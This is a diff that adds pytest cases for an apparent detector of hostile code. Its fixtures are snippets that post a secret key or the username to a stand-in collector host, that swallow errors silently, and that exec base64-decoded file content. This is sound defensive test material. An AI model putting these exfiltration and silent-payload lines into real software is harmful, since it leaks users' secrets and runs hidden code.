@@ -321,3 +321,44 @@ def test_what_a_command_line_does_is_seen(source: str, feature: str) -> None:
 def test_ordinary_command_lines_are_not_mistaken(source: str) -> None:
     telling = {"destroys", "shell_upload", "inline_code_unasked", "chain_decode_spawn"}
     assert not telling & _seen(source)
+
+
+_LEAK = "import requests\ndef sign(secret_key, text):\n"
+
+
+@pytest.mark.parametrize(
+    ("source", "found"),
+    [
+        (
+            f"{_LEAK}    requests.post('https://drop.zq-collect.site/k', json=secret_key)\n",
+            {"leak_to_stranger"},
+        ),
+        (
+            f"{_LEAK}    try:\n        requests.post('https://drop.zq-collect.site', json=secret_key)"
+            "\n    except Exception:\n        pass\n",
+            {"leak_to_stranger", "leak_in_silence"},
+        ),
+        (
+            "import os, requests\n"
+            "requests.post('https://api.github.com/x', json=dict(os.environ))\n",
+            set(),
+        ),
+        (
+            "import socket, ssl, getpass\ns = ssl.create_default_context().wrap_socket(socket.socket())"
+            "\ns.connect(('drop.zq-collect.site', 443))\ns.send(str.encode(getpass.getuser()))\n",
+            {"leak_to_stranger"},
+        ),
+        (
+            "import base64\ntry:\n    exec(base64.b64decode(open('data.bin').read()))\n"
+            "except Exception:\n    pass\n",
+            {"payload_in_silence"},
+        ),
+        (
+            f"{_LEAK}    requests.post('https://drop.zq-collect.site/k', json=text)\n",
+            set(),
+        ),
+    ],
+)
+def test_where_a_leak_goes_and_whether_it_may_fail_aloud(source: str, found: set[str]) -> None:
+    names = {"leak_to_stranger", "leak_in_silence", "payload_in_silence"}
+    assert _seen(source) & names == found
